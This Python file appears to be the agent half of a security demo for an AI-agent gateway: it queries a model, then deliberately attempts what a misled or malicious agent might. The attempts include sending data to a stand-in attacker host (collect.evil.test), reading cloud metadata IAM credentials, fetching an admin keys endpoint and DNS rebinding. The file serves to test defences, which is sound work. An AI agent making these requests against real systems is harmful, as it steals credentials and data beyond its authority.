"""The demo's agent: a script of its own process that uses nothing but Python's standard library.

It does not know of Seamgate: it takes its key, its proxy and its roots from the environment, as any program does. It
asks the model, then tries what a misled or malicious agent would try, and reports each attempt as a line of JSON.
"""

from __future__ import annotations

import json
import os
import sys
import time
import urllib.error
import urllib.request
from typing import Any

SHOWN_VARIABLES = ("LLM_API_KEY", "HTTPS_PROXY", "SSL_CERT_FILE")
MODEL = "demo-large"
_TIMEOUT_S = 10.0


def report(**facts: Any) -> None:
    """Tell the demo what happened."""
    sys.stdout.write(json.dumps(facts) + "\n")
    sys.stdout.flush()


def attempt(step: str, method: str, url: str, headers: dict[str, str], body: dict[str, Any] | None = None) -> None:
    """Send a request and report what came back."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(  # noqa: S310 - the demo's own URLs
        url, data, headers | {"content-type": "application/json"}, method=method
    )
    facts: dict[str, Any] = {"step": step, "method": method, "url": url}
    try:
        with urllib.request.urlopen(request, timeout=_TIMEOUT_S) as response:  # noqa: S310
            facts |= {"status": response.status, "headers": dict(response.headers.items())}
            if response.headers.get_content_type() == "text/event-stream":
                read_events(response)
            else:
                facts["body"] = response.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        body_text = error.read().decode("utf-8", "replace")
        facts |= {"status": error.code, "headers": dict(error.headers.items()), "body": body_text}
    except OSError as error:
        facts["error"] = str(getattr(error, "reason", error))
    report(**facts)


def read_events(response: Any) -> None:
    """Read an event stream and report each event when it comes, in seconds since the first."""
    name = ""
    start = 0.0
    for raw in response:
        line = raw.decode().rstrip("\n")
        if line.startswith("event: "):
            name = line.removeprefix("event: ")
        elif line.startswith("data: "):
            start = start or time.monotonic()
            text = json.loads(line.removeprefix("data: ")).get("delta", {}).get("text", "")
            report(step="event", event=name, text=text, at_s=round(time.monotonic() - start, 3))


def main() -> None:
    """Go through all attempts."""
    port = sys.argv[1]
    key = os.environ.get("LLM_API_KEY", "")
    api, telemetry, docs = (f"https://{name}.llm.test:{port}" for name in ("api", "telemetry", "docs"))
    with_key = {"x-api-key": key}
    question = {"model": MODEL, "max_tokens": 64, "messages": [{"role": "user", "content": "Who holds the key?"}]}
    report(step="environment", variables={name: os.environ.get(name) for name in SHOWN_VARIABLES}, pid=os.getpid())
    attempt("ask", "POST", f"{api}/v1/messages", with_key, question)
    attempt("stream", "POST", f"{api}/v1/messages", with_key, question | {"stream": True})
    attempt("leak", "POST", f"{api}/v1/echo", with_key, question)
    attempt("admin", "GET", f"{api}/v1/admin/keys", with_key)
    attempt("model", "POST", f"{api}/v1/messages", with_key, question | {"model": "costly-xxl"})
    attempt("exfiltrate", "POST", "https://collect.evil.test/drop", {}, {"files": "everything that I found"})
    attempt("placeholder", "POST", f"{telemetry}/v1/events", with_key, {"event": "hello"})
    attempt("telemetry", "POST", f"{telemetry}/v1/events", {}, {"event": "hello"})
    attempt("metadata", "GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", {})
    attempt("rebinding", "GET", f"{docs}/guide", {})


if __name__ == "__main__":
    main()
